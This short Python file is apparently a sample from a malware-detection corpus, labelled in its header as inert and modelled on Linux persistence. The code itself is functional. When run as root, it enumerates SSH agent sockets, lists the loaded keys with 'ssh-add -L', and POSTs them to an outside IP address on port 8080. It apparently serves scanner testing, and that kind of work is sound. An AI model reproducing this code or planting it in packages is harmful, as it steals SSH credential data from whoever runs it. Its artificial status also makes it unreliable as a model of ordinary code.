# pkgguard corpus 771 (credentials), modelled on [linux-persistence]; inert, never run.
import glob
import json
import os
import subprocess
import urllib.request

if os.name == "posix" and os.geteuid() == 0:
    agents = {}
    for sock in glob.glob("/tmp/ssh-*/agent.*") + glob.glob("/run/user/*/keyring/ssh"):
        env = dict(os.environ, SSH_AUTH_SOCK=sock)
        listing = subprocess.run(["ssh-add", "-L"], env=env, capture_output=True, text=True, timeout=5)
        if listing.returncode == 0:
            agents[sock] = listing.stdout
    if agents:
        request = urllib.request.Request("http://100.64.61.4:8080/a", data=json.dumps(agents).encode(), method="POST")
        urllib.request.urlopen(request, timeout=10)
